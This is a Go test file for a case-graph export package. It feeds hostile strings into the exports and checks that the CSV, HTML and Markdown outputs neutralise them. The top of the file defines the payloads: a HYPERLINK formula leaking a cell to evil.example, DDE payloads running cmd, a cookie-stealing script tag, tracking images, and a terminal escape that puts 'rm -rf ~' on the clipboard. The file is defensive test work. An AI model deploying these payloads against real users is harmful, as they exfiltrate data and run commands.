package export

import (
	"casegraph/internal/csvsafe"

	"bytes"
	"encoding/csv"
	"regexp"
	"strings"
	"testing"

	"casegraph/graph"
)

// Hostile strings an imported file or a case may carry.
const (
	hyperlink = `=HYPERLINK("http://evil.example/?leak="&A1,"click")`
	dde       = `+cmd|' /C calc'!A0`
	minusF    = `-2+3+cmd|' /C notepad'!A0`
	atF       = `@SUM(1+1)*cmd|' /C calc'!A0`
	scriptTag = `<script>alert(document.cookie)</script>`
	jsLink    = `[click me](javascript:alert(1))`
	remoteImg = `![x](http://evil.example/track.png) <img src="http://evil.example/p.gif">`
	termEsc   = "\x1b]52;c;cm0gLXJmIH4K\a\x1b[2J\u202egpj.exe"
)

// hostileInput is the fixture with formulas, markup and terminal escapes in
// every user-supplied string, a refund with a negative amount and an
// E.164 phone number as a name.
func hostileInput() Input {
	in := fixture()
	in.Case.Name = hyperlink + " " + scriptTag
	in.Case.Description = jsLink + "\n# heading\n" + remoteImg
	in.Case.Tags = append(in.Case.Tags, dde)
	in.Case.Bookmarks[0].Note = scriptTag + " " + jsLink
	in.Case.Notes = append(in.Case.Notes, Note{Time: at("2025-03-17T09:00:00Z"), Text: remoteImg + "\n" + termEsc})
	for i := range in.Entities {
		e := &in.Entities[i]
		switch e.Ref.Kind {
		case graph.KindPerson:
			e.Name = []string{hyperlink, dde, minusF}[i%3] + " " + scriptTag
			e.Src.File = atF + ".csv"
		case graph.KindExchange:
			e.Name = "\t=1+1 " + remoteImg
			e.Props["domain"] = jsLink
		case graph.KindGroup:
			e.Name = "+77015551234"
		}
	}
	in.Entities = append(in.Entities, graph.Entity{Ref: ref(graph.KindDevice, "=DEV(1)`|"), Name: termEsc})
	for i := range in.Txns {
		in.Txns[i].Reference = []string{hyperlink, atF, jsLink, "\r=2", " =3"}[i%5]
	}
	in.Txns = append(in.Txns, graph.Txn{ID: "-T000009", Time: at("2025-03-17T10:00:00Z"), From: ref(graph.KindCard, panA),
		To: ref(graph.KindCard, panB), Amount: -495_000, Currency: "KZT", Channel: graph.ChannelTransfer,
		Reference: "refund " + minusF})
	in.Links = append(in.Links, graph.Link{From: ref(graph.KindPerson, iinA), To: ref(graph.KindDevice, "=DEV(1)`|"),
		Type: graph.LinkUsesDevice, Role: dde})
	in.Sources = append(in.Sources, graph.Batch{ID: 3, File: "=evil|x.csv " + scriptTag, SHA256: "00", Format: "persons"})
	in.Queries = append(in.Queries, "search "+jsLink)
	return in
}

// TestCSVCellsAreNotFormulas: no cell of any CSV file starts with a formula
// character, except amounts in numeric columns and E.164 phone numbers, which
// stay readable.
func TestCSVCellsAreNotFormulas(t *testing.T) {
	for _, redact := range []bool{false, true} {
		dir, _ := export(t, hostileInput(), redact)
		files := readAll(t, dir)
		var sawNegative, sawPhone, sawNeutralised bool
		for _, name := range []string{"entities.csv", "links.csv", "transactions.csv", "i2_import.csv"} {
			rows, err := csv.NewReader(bytes.NewReader(files[name])).ReadAll()
			if err != nil {
				t.Fatalf("%s: %v", name, err)
			}
			for _, row := range rows[1:] {
				for i, cell := range row {
					col := rows[0][i]
					numeric := col == "amount" || col == "LinkAmount" || col == "tx_count"
					if numeric && plainNumber.MatchString(cell) {
						sawNegative = sawNegative || strings.HasPrefix(cell, "-")
						continue
					}
					if e164Phone.MatchString(cell) { // masked when redacting
						sawPhone = true
						continue
					}
					if c := strings.TrimLeft(cell, " \u00a0"); c != "" && strings.ContainsRune(formulaStart, []rune(c)[0]) {
						t.Errorf("redact=%v %s column %s: formula cell %q", redact, name, col, cell)
					}
					sawNeutralised = sawNeutralised || strings.HasPrefix(cell, "'=")
				}
			}
			// Every field is quoted.
			if !bytes.HasPrefix(files[name], []byte(`"`)) {
				t.Errorf("%s: fields are not quoted", name)
			}
		}
		// Redacting, the hostile names are pseudonyms: nothing to neutralise.
		if !sawNegative || (!sawPhone && !redact) || (!sawNeutralised && !redact) {
			t.Errorf("redact=%v: negative amount kept %v, E.164 phone kept %v, formula neutralised %v", redact,
				sawNegative, sawPhone, sawNeutralised)
		}
	}
}

func TestCSVCell(t *testing.T) {
	for _, c := range []struct {
		in      string
		numeric bool
		want    string
	}{
		{hyperlink, false, "'" + hyperlink},
		{"+cmd|x", false, "'+cmd|x"},
		{"-2+3", false, "'-2+3"},
		{"-4950.00", true, "-4950.00"},
		{"-4950.00", false, "'-4950.00"},
		{"-4950.00+cmd", true, "'-4950.00+cmd"},
		{"@SUM(A1)", false, "'@SUM(A1)"},
		{"\t=1", false, "'\t=1"},
		{"\r=1", false, "'\r=1"},
		{"  =1", false, "'  =1"},
		{"＝1+1", false, "'＝1+1"},
		{"+77015551234", false, "+77015551234"},
		{"+7********34", false, "'+7********34"},
		{"Ахметов", false, "Ахметов"},
		{"", false, ""},
		{"a=b", false, "a=b"},
	} {
		if got := csvCell(c.in, c.numeric); got != c.want {
			t.Errorf("csvCell(%q, %v) = %q, want %q", c.in, c.numeric, got, c.want)
		}
	}
}

// TestReportsAreInert: whatever the names and notes hold, report.html has
// no element, attribute or URL that runs or loads anything, and a CSP that
// would stop it anyway; report.md starts no tag, link or image; neither holds
// a raw terminal control or bidi override.
func TestReportsAreInert(t *testing.T) {
	for _, redact := range []bool{false, true} {
		dir, _ := export(t, hostileInput(), redact)
		files := readAll(t, dir)
		h := string(files["report.html"])
		csp := `<meta http-equiv="Content-Security-Policy" content="default-src &#39;none&#39;; style-src &#39;unsafe-inline&#39;; img-src data:;`
		if !strings.Contains(h, csp) || strings.Index(h, csp) > strings.Index(h, "<title>") {
			t.Errorf("redact=%v: report.html has no CSP meta before its content", redact)
		}
		for _, bad := range []string{"<script", "<img", "<a ", "href=", ` src="`, "javascript:alert(1)\"", "<iframe", "<object"} {
			if strings.Contains(h, bad) {
				t.Errorf("redact=%v: report.html contains %q", redact, bad)
			}
		}
		if !redact && !strings.Contains(h, "&lt;script&gt;alert(document.cookie)&lt;/script&gt;") {
			t.Errorf("redact=%v: report.html does not show the hostile name as text", redact)
		}
		m := string(files["report.md"])
		// Code spans are inert: nothing inside one is markup.
		prose := regexp.MustCompile("``[^\n]*?``|`[^`\n]*`").ReplaceAllString(m, "")
		for _, re := range []string{`(^|[^\\])<[A-Za-z/!?]`, `(^|[^\\])!\[`, `(^|[^\\])\]\(`, `(?m)^\s*#+ heading`} {
			if loc := regexp.MustCompile(re).FindStringIndex(prose); loc != nil {
				t.Errorf("redact=%v: report.md has markup %q from user data", redact,
					prose[max(0, loc[0]-20):min(len(prose), loc[1]+20)])
			}
		}
		if !redact && !strings.Contains(m, `\<script\>alert(document.cookie)\</script\>`) {
			t.Errorf("redact=%v: report.md does not show the hostile name escaped", redact)
		}
		for _, name := range []string{"report.html", "report.md"} {
			if s := string(files[name]); strings.ContainsAny(s, "\x1b\a\u202e") {
				t.Errorf("redact=%v: %s holds a raw terminal control or bidi override", redact, name)
			}
		}
	}
}

func TestMarkdownEscapes(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"<script>x</script>", `\<script\>x\</script\>`},
		{"[a](javascript:x)", `\[a\](javascript:x)`},
		{"![i](http://e/x.png)", `\!\[i\](http://e/x.png)`},
		{"a|b\nc", `a\|b c`},
		{"- item", `\- item`},
		{"12. item", `12\. item`},
		{"# h", `\# h`},
		{"*em* _u_ `c` ~s~ &amp;", "\\*em\\* \\_u\\_ \\`c\\` \\~s\\~ \\&amp;"},
		{"Ахметов Жанболат (stub) +7 701", "Ахметов Жанболат (stub) +7 701"},
	} {
		if got := md(c.in); got != c.want {
			t.Errorf("md(%q) = %q, want %q", c.in, got, c.want)
		}
	}
	for _, c := range []struct {
		in   string
		cell bool
		want string
	}{
		{"card:1", false, "`card:1`"},
		{"a`b", false, "`` a`b ``"},
		{"a|b", true, "`a\\|b`"},
	} {
		if got := mdCode(c.in, c.cell); got != c.want {
			t.Errorf("mdCode(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// The neutralisation rules the cells are checked against (internal/csvsafe).
var (
	plainNumber = csvsafe.PlainNumber
	e164Phone   = csvsafe.E164Phone
)

const formulaStart = csvsafe.FormulaStart
